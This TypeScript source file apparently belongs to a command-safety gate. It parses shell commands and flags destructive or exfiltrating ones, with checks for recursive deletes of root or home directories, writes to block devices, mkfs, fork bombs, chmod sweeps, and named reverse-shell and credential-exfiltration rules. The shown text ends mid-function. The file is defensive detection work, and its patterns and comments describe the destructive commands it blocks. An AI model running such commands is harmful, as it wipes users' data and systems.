// Destructive-command and exfiltration analysis on the parsed shell command (engine/shell), and
// the table vetting behind --check-config. Each DESTRUCTIVE row names a check below (or carries a
// user regex); a check looks at one unwrapped simple command with the whole analysis at hand.
import { rowRegex } from "../../engine/rowregex";
import { findSecrets } from "../../engine/secrets/detect";
import type { SecretRow } from "../../engine/secrets/types";
import { analyze, isForkBomb } from "../../engine/shell/analyze";
import { expandBraces } from "../../engine/shell/braces";
import { flagSet, programName, unwrapRunner } from "../../engine/shell/runners";
import type { Analysis, SimpleCommand, Word } from "../../engine/shell/types";
import { EXAMPLES, type Examples } from "./examples";

export type CheckName =
  | "rm-root-home-system"
  | "find-delete-root"
  | "interpreter-delete"
  | "block-device-write"
  | "mkfs-device"
  | "fork-bomb"
  | "chmod-root"
  | "chown-root"
  | "mv-root"
  | "truncate-system-file"
  | "git-reset-remote"
  | "exfil-credential-file"
  | "exfil-env-dump"
  | "reverse-shell"
  | "partition-wipe"
  | "rsync-delete-root"
  | "git-clean-root"
  | "container-host-mount"
  | "windows-destructive";

export interface DestructiveRow {
  /** Rule id, e.g. "rm.root-or-home". */
  id: string;
  /** Shown in the reason: `[security] Blocked (<why>): <command>`. */
  why: string;
  /** A built-in check on the parsed command… */
  check?: CheckName;
  /** …limited to these program names (after sudo/env/… are unwrapped); omitted = the check's own. */
  program?: readonly string[];
  /** …or a regex (or its source string) tested on each unwrapped simple command's text. */
  regex?: RegExp | string;
  examples: { block: readonly string[]; allow: readonly string[] };
}

export interface Hit {
  id: string;
  why: string;
}

/** Commands longer than this are checked on their head and their tail only (a scan cap). */
export const MAX_COMMAND_HEAD = 64 * 1024;

/** What a command is judged with beyond its text. */
export interface CommandContext {
  /** Nesting of re-checked strings (interpreter code, container commands). */
  depth?: number;
  /** The event's working directory; "" or absent = unknown. */
  cwd?: string;
  /** Paths that received a credential in this session's earlier calls. */
  tainted?: ReadonlySet<string>;
  /** Filled with the paths this command writes a credential into (when it is not blocked). */
  sinks?: string[];
  /** How a nested command line is checked (the gate passes itself; without it, the analysis alone). */
  recheck?: (command: string, rows: readonly DestructiveRow[], ctx: CommandContext) => Hit | undefined;
}

// ---- paths -----------------------------------------------------------------------------------

/** Directories whose recursive delete / move / chown wrecks the machine. */
const SYSTEM_DIRS = new Set([
  "/bin", "/boot", "/dev", "/etc", "/home", "/lib", "/lib32", "/lib64", "/libx32", "/opt", "/proc", "/root", "/sbin",
  "/srv", "/sys", "/usr", "/var", "/usr/bin", "/usr/lib", "/usr/lib64", "/usr/local", "/usr/sbin", "/usr/share",
  "/usr/include", "/usr/local/bin", "/var/lib", "/etc/ssh", "/System", "/Library",
  "/Applications", "/Users", "/private", "/private/etc", "/private/var", "/snap", "/mnt", "/media", "/data",
  "/data/workspace", "/workspace", "/app",
]);
/** The core of the OS: chown / chmod -R here breaks sudo, ssh and boot. */
const CORE_DIRS = new Set(["/bin", "/boot", "/dev", "/etc", "/lib", "/lib32", "/lib64", "/proc", "/root", "/sbin", "/sys", "/usr", "/var", "/usr/bin", "/usr/lib", "/usr/sbin", "/System", "/Library", "/private", "/etc/ssh", "/home", "/Users"]);
const CRITICAL_FILES = /^\/etc\/(?:passwd|shadow|group|gshadow|sudoers|fstab|login\.defs|pam\.d\/[\w.-]+|ssh\/sshd_config)$|^\/boot\/|^\/(?:usr\/)?s?bin\/(?:sh|bash|sudo|ls|login|init)$/;

/** folder: a protected folder that a filtered sweep may clean (home's own folders, service data under /var/lib). */
type PathClass = "root" | "home" | "folder" | "system" | "cwd" | "parent" | "var-root" | "repo";

/** Top-level folders of a home that are caches or build output: deleting them loses nothing. */
const HOME_CACHES = new Set([
  ".cache", ".npm", ".yarn", ".pnpm-store", ".node-gyp", ".bun", ".deno", ".nuget", ".ivy2", ".cpan", ".pub-cache", ".expo",
  ".Trash", "node_modules", "tmp", ".tmp",
]);
/** Scratch names at the top of a home: ~/tmp-build, ~/scratch, ~/.tmp.x. */
const SCRATCH = /^\.?(?:tmp|temp|scratch)(?:[-_.][\w.-]*)?$|[-_.](?:tmp|temp)$/i;

/** A top-level folder of a home that holds the user's own data (not a cache, scratch or glob). */
function isUserFolder(name: string): boolean {
  return !HOME_CACHES.has(name) && !SCRATCH.test(name) && !/[*?[]/.test(name);
}

/** Service data under /var/lib whose subfolders are the data (a database cluster, container volumes). */
const SERVICE_DATA = /^\/var\/lib\/(?:[^/]+|(?:postgresql|pgsql|mysql|mariadb|mongodb|redis|docker|containerd|containers|etcd|kubelet|libvirt|elasticsearch|influxdb|clickhouse|rabbitmq|cassandra|grafana|prometheus)\/[^/]+)$/;
/** The workspace root, by its variable. */
const WORKSPACE_VARS = new Set(["WORKSPACE_DIR", "WORKSPACE"]);

/** A glob over absolute paths (`/*\/*`, `/**`, `/u*`, `/e?c`) as a regex, or null when the word has none. */
function globRegex(path: string): RegExp | null {
  if (!/[*?[]/.test(path)) return null;
  let re = "";
  for (let i = 0; i < path.length; i++) {
    const ch = path[i] as string;
    if (ch === "*" && path[i + 1] === "*") {
      re += ".*";
      i++;
    } else if (ch === "*") re += "[^/]*";
    else if (ch === "?") re += "[^/]";
    else if (ch === "[") {
      const end = path.indexOf("]", i + 2);
      if (end < 0) re += "\\[";
      else {
        re += "[" + path.slice(i + 1, end).replace(/^!/, "^").replace(/\\/g, "\\\\") + "]";
        i = end;
      }
    } else re += ch.replace(/[.+^${}()|\\]/g, "\\$&");
  }
  try {
    return new RegExp("^" + re.replace(/\/+$/, "") + "/?$");
  } catch {
    return null;
  }
}

/** The class of an absolute, normalised path: the root, a system dir, service data, a home or its folders. */
function absoluteClass(p: string): PathClass | undefined {
  if (p === "/") return "root";
  if (SYSTEM_DIRS.has(p)) return "system";
  if (SERVICE_DATA.test(p)) return "folder";
  if (/^\/(?:home|Users)\/[^/]+$/.test(p) || p === "/root") return "home";
  const home = /^(?:\/(?:home|Users)\/[^/]+|\/root)(\/[^/]+)$/.exec(p);
  if (home && isUserFolder((home[1] as string).slice(1))) return "folder";
  if (/(?:^|\/)\.git$/.test(p)) return "repo";
  return undefined;
}

/** Lexical normalisation of an absolute or relative path: "//a/./b/../" -> "/a". */
function normalise(path: string): { path: string; glob: boolean } {
  const abs = path.startsWith("/");
  const out: string[] = [];
  let glob = false;
  const parts = path.replace(/(?<=.)\/+$/, "").split("/");
  parts.forEach((p, i) => {
    if (p === "" || p === ".") return;
    if (i === parts.length - 1 && /^(?:\*|\.\*|\.\[!.\]\*|\{,\.\}\*|\*\.\*)$/.test(p)) {
      glob = true;
      return;
    }
    if (p === "..") {
      if (out.length && out[out.length - 1] !== "..") out.pop();
      else if (!abs) out.push("..");
      return;
    }
    out.push(p);
  });
  return { path: (abs ? "/" : "") + out.join("/"), glob };
}

const VAR_PATH = /^\$(?:\{([A-Za-z_][A-Za-z0-9_]*)(:?[?=+-][^}]*)?\}|([A-Za-z_][A-Za-z0-9_]*))(.*)$/s;

/** `cwd`: what "." is (undefined = unknown, so risky; null = a named directory we cd'ed into). */
function classify(word: Word, cwd: PathClass | null | undefined, guarded: ReadonlySet<string>): PathClass | undefined {
  let t = word.text;
  if (!t) return undefined;
  const literalStar = word.quoted && !word.dynamic;
  const v = VAR_PATH.exec(t);
  if (v) {
    const name = (v[1] ?? v[3]) as string;
    const op = v[2] ?? "";
    const rest = v[4] ?? "";
    if (name === "HOME") t = "~" + rest;
    else if (name === "PWD") t = "." + rest;
    else if (WORKSPACE_VARS.has(name) && normalise(rest || "/").path === "/") return "system";
    else {
      if (/^:?[?=-]/.test(op) || guarded.has(name)) return undefined;
      if (!rest) return undefined;
      const n = normalise(rest);
      return n.path === "/" ? "var-root" : undefined;
    }
  }
  if (t === "~" || t.startsWith("~/") || /^~[a-z_][a-z0-9_-]*[/]?$/.test(t)) {
    const rest = t.startsWith("~/") ? t.slice(1) : "/";
    const n = normalise(rest);
    if (n.path === "/") return "home";
    if (n.path.startsWith("/..")) return "system";
    // ~/src, ~/.local: a folder of the home itself (caches and build output aside)
    const top = /^\/([^/]+)$/.exec(n.path);
    if (top && isUserFolder(top[1] as string)) return "folder";
    if (/(?:^|\/)\.git$/.test(n.path)) return "repo";
    return undefined;
  }
  if (t.startsWith("/")) {
    const n = normalise(t);
    const cls = absoluteClass(n.path);
    if (cls) return cls;
    // /*/*, /**, /u*: a glob that matches a protected directory
    const g = word.dynamic && !literalStar ? globRegex(n.path) : null;
    if (g && [...SYSTEM_DIRS].some((d) => g.test(d))) return "system";
    return undefined;
  }
  if (literalStar && t.includes("*")) return undefined;
  const n = normalise(t);
  if (n.path === "") return cwd === null ? undefined : (cwd ?? "cwd");
  if (/^\.\.(?:\/\.\.)*$/.test(n.path)) return "parent";
  if (/(?:^|\/)\.git$/.test(n.path)) return "repo";
  return undefined;
}

// ---- the command context ---------------------------------------------------------------------

interface Scope {
  analysis: Analysis;
  /** Unwrapped simple commands, in order. */
  cmds: SimpleCommand[];
  /** Variables checked before use ([ -n "$X" ], ${X:?}, test -d "$X"). */
  guarded: Set<string>;
  /** The table in force (interpreter one-liners re-check shell strings against it). */
  rows: readonly DestructiveRow[];
  depth: number;
  /** The event's working directory ("" = unknown): what `.` and `*` stand for before any cd. */
  cwd: string;
  ctx: CommandContext;
  /** Lazily built: exfiltration facts and $( ) children per command index. */
  flow?: Flow;
  subs?: Map<number, SimpleCommand[]>;
  vars?: Map<number, SimpleCommand[]>;
  index?: Map<SimpleCommand, number>;
}

function texts(c: SimpleCommand): string[] {
  return c.words.map((w) => w.text);
}

/** What "." means for command k: the class of the last `cd` target before it (null: a named, safe directory). */
function cwdClass(scope: Scope, k: number): PathClass | null | undefined {
  for (let j = k - 1; j >= 0; j--) {
    const c = scope.cmds[j] as SimpleCommand;
    if (programName(c.words[0]) !== "cd") continue;
    const target = c.words[1];
    if (!target || target.text === "-") return target ? undefined : "home";
    const cls = classify(target, undefined, scope.guarded);
    return cls === "cwd" || cls === "parent" ? undefined : (cls ?? null);
  }
  // before any cd: the event's cwd, when the host sent one (a protected one keeps its class)
  if (!scope.cwd.startsWith("/")) return undefined;
  return absoluteClass(normalise(scope.cwd).path) ?? null;
}

/** The words a word stands for after brace expansion (`/{bin,etc}`, `"$HOME"/{*,.[!.]*}`): unquoted braces only. */
function braced(w: Word): Word[] {
  if (!w.dynamic || !w.text.includes("{") || !w.text.includes(",")) return [w];
  return expandBraces(w.text, 32).map((text) => ({ ...w, text }));
}

function dangerousOperand(scope: Scope, k: number, words: readonly Word[]): Word | undefined {
  const cd = cwdClass(scope, k);
  return words.find((w) => braced(w).some((x) => classify(x, cd, scope.guarded) !== undefined));
}

// ---- checks on one command -------------------------------------------------------------------

type Check = (c: SimpleCommand, scope: Scope, k: number) => boolean;

const isRecursive = (f: ReturnType<typeof flagSet>) => f.short.has("r") || f.short.has("R") || f.long.has("recursive");

/** The user's own files and keys in a home directory: `rm -rf ~/Documents` loses what no rebuild brings back. */
const HOME_DATA = /^(?:~|\$\{?HOME\}?|\/(?:home|Users)\/[^/]+)\/(?:Documents|Desktop|Pictures|Music|Videos|Movies|\.ssh|\.gnupg)\/?(?:\*|\.\*)?$/;

/** The rimraf CLI is `rm -rf` without the flags: `rimraf ~`, `npx rimraf ~`, `pnpm dlx rimraf ~`, `yarn dlx rimraf /`. */
const PACKAGE_RUNNERS = ["npx", "pnpx", "bunx", "pnpm", "yarn", "bun"];
function rimrafCommand(c: SimpleCommand): SimpleCommand | undefined {
  const prog = programName(c.words[0]);
  if (prog === "rimraf") return c;
  if (!PACKAGE_RUNNERS.includes(prog)) return undefined;
  let i = 1;
  if (prog === "pnpm" || prog === "yarn" || prog === "bun") {
    if (!/^(?:dlx|exec|x)$/.test(c.words[1]?.text ?? "")) return undefined;
    i = 2;
  }
  while (i < c.words.length && /^-/.test(c.words[i]?.text ?? "")) i++;
  return /^rimraf(?:@[\w.^~-]{1,20})?$/.test(c.words[i]?.text ?? "") ? { ...c, words: c.words.slice(i) } : undefined;
}

const rmRoot: Check = (c0, scope, k) => {
  const rimraf = programName(c0.words[0]) === "rm" ? undefined : rimrafCommand(c0);
  if (programName(c0.words[0]) !== "rm" && !rimraf) return false;
  const c = rimraf ?? c0;
  const f = flagSet(c);
  if (f.long.has("no-preserve-root")) return true;
  // `ls -d ~/* | xargs rm -rf`, `find ~ -type f | xargs rm -f`: the entries of a listed root / home go
  if (f.operands.every((w) => w.text.includes("{}")) && listedByXargs(scope, k)) return true;
  if (!rimraf && !isRecursive(f)) return false;
  return dangerousOperand(scope, k, f.operands) !== undefined || f.operands.some((w) => HOME_DATA.test(w.text));
};

/** Options of a find that lists a whole directory (no filter on names, times or sizes). */
const FIND_LISTING = /^(?:-(?:xdev|mount|depth|print0?|mindepth|maxdepth|type|L|P|H)|[0-9]{1,3}|[dfl])$/;

/** Command k came from an xargs fed by `ls` / an unfiltered `find` of the root or the home directory. */
function listedByXargs(scope: Scope, k: number): boolean {
  const raw = scope.analysis.commands[k];
  if (!raw || raw.via[raw.via.length - 1] !== "xargs" || raw.parent === undefined) return false;
  const x = scope.analysis.commands[raw.parent];
  if (!x || x.stage < 1) return false;
  const prod = scope.analysis.pipelines[x.pipeline]?.[x.stage - 1];
  if (!prod) return false;
  const u = unwrapRunner(prod);
  const prog = programName(u.words[0]);
  const cd = cwdClass(scope, raw.parent);
  const bad = (w: Word, cwdToo: boolean) => {
    const cls = classify(w, cd, scope.guarded);
    return cls === "root" || cls === "home" || cls === "system" || cls === "var-root" || cls === "folder" || (cwdToo && cls === "cwd");
  };
  if (prog === "ls") return flagSet(u).operands.some((w) => bad(w, false));
  if (prog !== "find") return false;
  const w = u.words.slice(1);
  const at = w.findIndex((y) => y.text.startsWith("-") || y.text === "(" || y.text === "!");
  const starts = at < 0 ? w : w.slice(0, at);
  // an unfiltered find of the working tree (cwd unknown or protected) lists all of it
  const from = starts.length ? starts : [{ text: ".", raw: ".", quoted: false, dynamic: false }];
  return from.some((x) => bad(x, true)) && (at < 0 || w.slice(at).every((y) => FIND_LISTING.test(y.text)));
}

const findDelete: Check = (c, scope, k) => {
  const w = c.words;
  const starts: Word[] = [];
  let i = 1;
  for (; i < w.length; i++) {
    const t = (w[i] as Word).text;
    if (t.startsWith("-") || t === "(" || t === "!") break;
    starts.push(w[i] as Word);
  }
  const rest = w.slice(i).map((x) => x.text);
  const execs = execCommands(w.slice(i));
  const deletes = rest.some((t, j) => t === "-delete" && !inExec(rest, j)) || execs.some((e) => /^(?:rm|shred|unlink|rmdir)$/.test(programName(e.words[0])));
  // the working tree or a user folder goes whole only to -delete or rm -rf (rm -r alone stops at what it may not write)
  const wipes = rest.some((t, j) => t === "-delete" && !inExec(rest, j)) || execs.some((e) => {
    const f = flagSet(e);
    return programName(e.words[0]) === "rm" && isRecursive(f) && (f.short.has("f") || f.long.has("force"));
  });
  // find / -exec chmod 777 {} +: the same sweep as chmod -R
  const sweeps = rest.some((t, j) => (t === "-exec" || t === "-execdir") && ((programName(rest[j + 1] ?? "") === "chmod" && (CHMOD_DANGER.test(rest[j + 2] ?? "") || CHMOD_SWEEP.test(rest[j + 2] ?? ""))) || /^(?:chown|chgrp)$/.test(programName(rest[j + 1] ?? ""))));
  if (sweeps && starts.some(isRootOrCore)) return true;
  if (!deletes || onlyJunk(rest)) return false;
  // the SSH / GnuPG keys: anything but public keys and known_hosts leftovers
  if (starts.some((s) => KEY_DIR.test(s.text))) {
    const names = rest.filter((t, j) => /^-i?(?:name|path)$/.test(rest[j - 1] ?? ""));
    if (!names.length || names.some((t) => !/\.pub$|known_hosts|\.(?:old|bak)$/.test(t))) return true;
  }
  const cd = cwdClass(scope, k);
  // `find` alone starts at "."; with no filter on names, times or sizes it takes the whole tree
  const unfiltered = rest.every((t, j) => t === "-delete" || FIND_LISTING.test(t) || /^-(?:exec|execdir)$/.test(rest[j] ?? "") || inExec(rest, j));
  const from = starts.length ? starts : [{ text: ".", raw: ".", quoted: false, dynamic: false }];
  return from.some((w) => {
    const cls = classify(w, cd, scope.guarded);
    if (cls === "cwd" || cls === "parent" || cls === "folder") return unfiltered && wipes;
    return cls !== undefined;
  });
};

/** The commands of a find's -exec / -execdir actions, runners unwrapped (`-exec sudo rm -rf {} +`). */
function execCommands(w: readonly Word[]): SimpleCommand[] {
  const out: SimpleCommand[] = [];
  for (let j = 0; j < w.length; j++) {
    if (!/^-(?:exec|execdir|ok|okdir)$/.test((w[j] as Word).text)) continue;
    let e = j + 1;
    while (e < w.length && (w[e] as Word).text !== ";" && (w[e] as Word).text !== "+") e++;
    const words = w.slice(j + 1, e);
    if (words.length) out.push(unwrapRunner({ words, assignments: [], redirects: [], pipeline: 0, stage: 0, pipelineLength: 1, depth: 0, via: [], text: "" }));
    j = e;
  }
  return out;
}

/** Word j of a find's tests lies inside an -exec … ; action. */
function inExec(rest: readonly string[], j: number): boolean {
  for (let i = j - 1; i >= 0; i--) {
    if (rest[i] === ";" || rest[i] === "+") return false;
    if (/^-(?:exec|execdir|ok|okdir)$/.test(rest[i] as string)) return true;
  }
  return false;
}

const KEY_DIR = /^(?:~|\$\{?HOME\}?|\/(?:home|Users)\/[^/]{1,64}|\/root)\/\.(?:ssh|gnupg)\/?$/;

/** Names a cleanup deletes anywhere: caches, bytecode, editor and OS droppings. */
const JUNK_NAME = /^(?:\.DS_Store|\._\*|Thumbs\.db|desktop\.ini|__pycache__|\.pytest_cache|\.mypy_cache|\.ruff_cache|node_modules|\*\.(?:py[co]|class|o|tmp|temp|swp|swo|orig|rej|log)|\*~|core)$/;

/** Every -name / -iname filter of a find names junk, and nothing negates or ORs in more. */
function onlyJunk(rest: string[]): boolean {
  let names = 0;
  for (let j = 0; j < rest.length; j++) {
    const t = rest[j] as string;
    if (t === "-exec" || t === "-execdir" || t === "-ok" || t === "-okdir") break;
    if (t === "!" || t === "-not" || t === "-o" || t === "-or") return false;
    if (t === "-name" || t === "-iname") {
      if (!JUNK_NAME.test(rest[j + 1] ?? "")) return false;
      names++;
      j++;
    }
  }
  return names > 0;
}

const DELETE_CALL =
  /(?:shutil\.rmtree|rmtree|rm_rf|rm_r|remove_tree|rmSync|rmdirSync|removeSync|RemoveAll|rimraf(?:\.sync)?|deleteSync|Remove-Item)\s*\(?\s*(?:(['"`])([^'"`]{0,200})\1|(os\.path\.expanduser\(\s*['"]~['"]\s*\)|(?:pathlib\.)?Path\.home\(\)|(?:os|require\(\s*['"](?:node:)?os['"]\s*\))\.homedir\(\)|process\.env\.HOME|os\.environ\[\s*['"]HOME['"]\s*\]|os\.getenv\(\s*['"]HOME['"]\s*\)|ENV\[\s*['"]HOME['"]\s*\]|Dir\.home|\$ENV\{HOME\})(?!\s{0,4}(?:[/+]|\.joinpath)))/g;
/** Calls that hand a string (a shell command line) or a list (an argv) to the OS: the string is analysed as shell. */
const SPAWN_CALL = new RegExp(
  [
    String.raw`(?:\bos\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?)|\bsubprocess\.\w+|\bcommands\.getoutput|\bpty\.spawn`,
    String.raw`|\b(?:exec|execSync|execFile|execFileSync|spawn|spawnSync|system|popen|shell_exec|passthru|proc_open|exec_command)`,
    String.raw`|\bIO\.popen|\bOpen3\.\w+|\bKernel\.(?:system|exec|spawn))\s*(\(|\s(?=\s*['"\[]))`,
  ].join(""),
  "g",
);
/** A string literal in code: '…', "…" or `…`, escapes kept for decodeEscapes(). */
const CODE_STRING = /'((?:[^'\\\n]|\\.){0,400})'|"((?:[^"\\\n]|\\.){0,400})"|`((?:[^`\\]|\\.){0,400})`/g;
const DELETE_ON_VAR = /(?:rmtree|rm_rf|rm_r|remove_tree|rmSync|rmdirSync|removeSync|RemoveAll|rimraf(?:\.sync)?)\s{0,4}\(\s{0,4}[A-Za-z_]/;
const SCRIPT_PATH = /(['"])(\/[^'"\s]{0,100}|~\/?)\1/g;
const FORK_CODE = /fork\s+while\s+fork|while\s*\(?\s*(?:true|1|True)\s*\)?\s*[:{;]?\s*(?:os\.)?fork\s*\(\s*\)|for\s*\(\s*;\s*;\s*\)\s*fork\s*\(/;

/** Switches an interpreter takes bundled before its code option with the code glued on (python -Bcprint(1)). */
function gluedCode(prog: string, t: string): string | undefined {
  const re = /^(?:python|pypy)/.test(prog) ? /^-[bBdEhiIOqsSuvVx]*c(.+)$/s : prog === "perl" ? /^-[lwnpaTtWsX0]*[eE](.+)$/s : prog === "ruby" ? /^-[wvdnpalS]*e(.+)$/s : null;
  return re?.exec(t)?.[1];
}

/** Option letters that make an interpreter run the next word, or the rest of the bundle, as code. */
function codeLetters(prog: string): string {
  if (/^(?:python|pypy)/.test(prog)) return "c";
  if (prog === "perl") return "eE";
  if (prog === "ruby") return "e";
  if (prog === "php") return "r";
  if (/^(?:node|nodejs|bun)$/.test(prog)) return "ep";
  return "";
}

const INTERPRETER = /^(?:python[\d.]*|pypy3?|node|nodejs|bun|deno|perl|ruby|php|pwsh|powershell|osascript)$/;
const AWK = /^(?:awk|gawk|mawk|nawk)$/;

function interpreterScript(c: SimpleCommand): string | undefined {
  const prog = programName(c.words[0]);
  const w = texts(c);
  if (AWK.test(prog)) return awkProgram(w);
  if (!INTERPRETER.test(prog)) return undefined;
  const letters = codeLetters(prog);
  for (let i = 1; i < w.length; i++) {
    const t = w[i] as string;
    if (i < w.length - 1 && (/^-(?:c|e|E|r|p|-eval|-command|Command|ne|pe|le|lne)$/.test(t) || (prog === "deno" && t === "eval"))) return w.slice(i + 1).join(" ");
    if (!letters || t.length < 2 || t[0] !== "-" || t[1] === "-") continue;
    // -we, -wle, -Bc, -vc: switches bundled before the code option; -c'…': the code glued on
    const bundle = /^-[A-Za-z]+$/.test(t) && letters.includes(t[t.length - 1] as string);
    if (bundle && i < w.length - 1) return w.slice(i + 1).join(" ");
    const glued = bundle ? undefined : gluedCode(prog, t);
    if (glued !== undefined) return [glued, ...w.slice(i + 1)].join(" ");
  }
  const heredoc = c.redirects.find((r) => (r.op === "<<" || r.op === "<<-" || r.op === "<<<") && !(r.op !== "<<<" && r.heredoc === undefined));
  // python3 <<EOF / python3 - <<EOF / node - <<<'…': the interpreter runs its stdin
  if (heredoc && w.slice(1).every((t) => /^-[uqBIsS]?$/.test(t))) return heredoc.op === "<<<" ? heredoc.target.text : heredoc.heredoc;
  return undefined;
}

/** An awk program text: the first operand after -F / -v / -f options (undefined with -f: the program is a file). */
function awkProgram(w: readonly string[]): string | undefined {
  for (let i = 1; i < w.length; i++) {
    const t = w[i] as string;
    if (t === "--") return w[i + 1];
    if (t === "-f" || t === "--file" || t.startsWith("-f")) return undefined;
    if (t === "-e" || t === "--source") return w[i + 1];
    if (t === "-F" || t === "-v") i++;
    else if (!t.startsWith("-") || t === "-") return t;
  }
  return undefined;
}

/** Backslash escapes of a code string: \x20, \040, \n, \", \\. */
function decodeEscapes(t: string): string {
  if (!t.includes("\\")) return t;
  return t.replace(/\\(x[0-9A-Fa-f]{1,2}|[0-7]{1,3}|u[0-9A-Fa-f]{4}|.)/gs, (_all, e: string) => {
    if (e[0] === "x" && e.length > 1) return String.fromCharCode(parseInt(e.slice(1), 16));
    if (e[0] === "u" && e.length === 5) return String.fromCharCode(parseInt(e.slice(1), 16));
    if (/^[0-7]+$/.test(e)) return String.fromCharCode(parseInt(e, 8));
    return e === "n" ? "\n" : e === "t" ? "\t" : e;
  });
}

/** The string literals of a code span, decoded, in order. */
function stringsIn(span: string): string[] {
  const out: string[] = [];
  for (const m of span.matchAll(CODE_STRING)) out.push(decodeEscapes((m[1] ?? m[2] ?? m[3] ?? "") as string));
  return out;
}

/** An argument span: from just after a call's opening bracket to its matching close (or the statement's end). */
function callSpan(code: string, from: number, paren: boolean): string {
  let depth = paren ? 1 : 0;
  let q = "";
  const end = Math.min(code.length, from + 600);
  for (let i = from; i < end; i++) {
    const ch = code[i] as string;
    if (q) {
      if (ch === "\\") i++;
      else if (ch === q) q = "";
      continue;
    }
    if (ch === "'" || ch === '"' || ch === "`") q = ch;
    else if (ch === "(" || ch === "[") depth++;
    else if (ch === ")" || ch === "]") {
      if (--depth <= 0 && paren) return code.slice(from, i);
    } else if (!paren && (ch === ";" || ch === "\n")) return code.slice(from, i);
  }
  return code.slice(from, end);
}

const ARGV_WORD = /^[\w@%+=:,./~-]+$/;

/** Shell command lines a piece of code runs: spawn calls (a string, or an argv list), backticks, awk system() / getline / print |. */
function spawnedCommands(code: string, awk: boolean): string[] {
  const out: string[] = [];
  const src = code.length > 64 * 1024 ? code.slice(0, 64 * 1024) : code;
  const re = new RegExp(SPAWN_CALL.source, "g");
  for (let m = re.exec(src); m && out.length < 32; m = re.exec(src)) {
    const lits = stringsIn(callSpan(src, m.index + m[0].length, m[1] === "("));
    const first = lits[0];
    if (first === undefined) continue;
    // a shell string (has blanks) runs as a command line; a list or several arguments is an argv
    out.push(/\s/.test(first) || lits.length === 1 ? lits.join(" ") : lits.map((a) => (ARGV_WORD.test(a) ? a : `'${a.replace(/'/g, `'\\''`)}'`)).join(" "));
  }
  if (!awk) for (const m of src.matchAll(/(?<![\w$])`([^`]{1,400})`/g)) out.push(decodeEscapes(m[1] as string));
  // awk: "cmd" | getline, print … | "cmd"
  else for (const m of src.matchAll(/"((?:[^"\\]|\\.){1,400})"\s*\|&?\s*getline|\|&?\s*"((?:[^"\\]|\\.){1,400})"/g)) out.push(decodeEscapes((m[1] ?? m[2]) as string));
  return out;
}

const interpreterDelete: Check = (c, scope, k) => {
  const script = interpreterScript(c);
  if (!script) return false;
  const re = new RegExp(DELETE_CALL.source, "g");
  for (let m = re.exec(script); m; m = re.exec(script)) {
    if (m[3]) return true; // the home directory, by name
    const path = m[2] ?? "";
    const cls = classify({ text: path, raw: path, quoted: false, dynamic: false }, undefined, scope.guarded);
    if (cls && cls !== "cwd" && cls !== "parent") return true;
  }
  // [shutil.rmtree(p) for p in ['/etc', '/usr']]: a delete call on a variable, the root / home / OS core named in the script
  if (DELETE_ON_VAR.test(script)) {
    for (const m of script.matchAll(SCRIPT_PATH)) {
      const cls = classify({ text: m[2] as string, raw: m[0], quoted: false, dynamic: false }, undefined, scope.guarded);
      if (cls === "root" || cls === "home" || (cls === "system" && CORE_DIRS.has(normalise(m[2] as string).path))) return true;
    }
  }
  // os.system("…"), subprocess.run([…]), execSync, system(), backticks: the same shell analysis
  const awk = AWK.test(programName(c.words[0]));
  for (const line of spawnedCommands(script, awk)) if (recheck(scope, line)) return true;
  void k;
  return false;
};

const BLOCK_DEVICE =
  /^\/dev\/(?:sd[a-z]+\d*|hd[a-z]\d*|vd[a-z]\d*|xvd[a-z]+\d*|nvme\d+n\d+(?:p\d+)?|mmcblk\d+(?:p\d+)?|r?disk\d+(?:s\d+)?|md\d+|md\/\S+|dm-\d+|mapper\/\S+|loop\d+|nbd\d+|zd\d+|sr\d+|root|(?:disk\/by-[a-z]+)\/\S+|(?!(?:term|cua|pts|input|snd|dri|net|bus|usb|char|serial|fd|shm|mqueue|hugepages|vfio|cpu|v4l|xen|dma_heap)\/)[a-z]+\d*[/][a-z]+)$/;
const isDevice = (t: string) => BLOCK_DEVICE.test(t) && !/^\/dev\/(?:null|zero|u?random|stdout|stderr|stdin|tty\w*|pts\/\d+|fd\/\d+|shm\/.*)$/.test(t);

const blockDeviceWrite: Check = (c) => {
  const prog = programName(c.words[0]);
  const w = texts(c);
  if (c.redirects.some((r) => /^(?:>|>>|>\||&>|&>>|<>)$/.test(r.op) && isDevice(r.target.text))) return true;
  switch (prog) {
    case "dd":
      return w.some((t) => t.startsWith("of=") && isDevice(t.slice(3)));
    case "tee":
    case "cp":
    case "shred":
    case "wipefs":
    case "blkdiscard":
    case "sgdisk":
    case "badblocks":
    case "pv":
      if (prog === "sgdisk" && !w.some((t) => /^(?:-Z|--zap-all|-o|--clear)$/.test(t))) return false;
      if (prog === "badblocks" && !w.some((t) => /^-\w*w/.test(t))) return false;
      // bare `wipefs /dev/sdb` lists the signatures; -a / -o erase them, -n is a dry run
      if (prog === "wipefs" && (!w.some((t) => /^(?:-[a-zA-Z]*[ao][a-zA-Z]*|--all|--offset(?:=.*)?)$/.test(t)) || w.some((t) => /^(?:-[a-zA-Z]*n[a-zA-Z]*|--no-act)$/.test(t)))) return false;
      if (prog === "cp") return isDevice(w[w.length - 1] ?? "");
      return flagSet(c).operands.some((o) => isDevice(o.text));
    case "hdparm":
      return w.some((t) => /^--security-erase/.test(t));
  }
  return false;
};

const mkfsDevice: Check = (c) => {
  const prog = programName(c.words[0]);
  if (!/^(?:mkfs(?:\.\w+)?|mke2fs|mkswap|mkdosfs|mkntfs|newfs(?:_\w+)?)$/.test(prog) && !(prog === "diskutil" && /^erase/i.test(c.words[1]?.text ?? ""))) return false;
  return c.words.slice(1).some((w) => isDevice(w.text));
};

const CHMOD_DANGER = /^(?:0?777|0?666|0?000|a\+rwx|ugo\+rwx|a=rwx|o\+w|a\+w|a-rwx|ugo-rwx|a=|0)$/;
/** Any other mode that, applied recursively to the whole OS, breaks it: an absolute mode (drops setuid on sudo, opens /etc/shadow, sudoers no longer 0440), write for group / others, read or execute taken away. */
const CHMOD_SWEEP = /^0?[0-7]{3,4}$|(?:^|,)[ugoa]*[goa][ugoa]*[+=][rwxXst]{0,6}w|(?:^|,)[ugoa]*-[rwxXst]{0,6}[rxX]/;
const isRootOrCore = (w: Word) => braced(w).some((x) => {
  const n = normalise(x.text);
  return n.path === "/" || CORE_DIRS.has(n.path);
});
const chmodRoot: Check = (c, scope, k) => {
  const f = flagSet(c);
  const mode = f.operands[0]?.text ?? "";
  const targets = f.operands.slice(1);
  if (!CHMOD_DANGER.test(mode)) return isRecursive(f) && CHMOD_SWEEP.test(mode) && targets.some(isRootOrCore);
  if (isRecursive(f)) return dangerousOperand(scope, k, targets) !== undefined;
  return targets.some((w) => {
    const n = normalise(w.text);
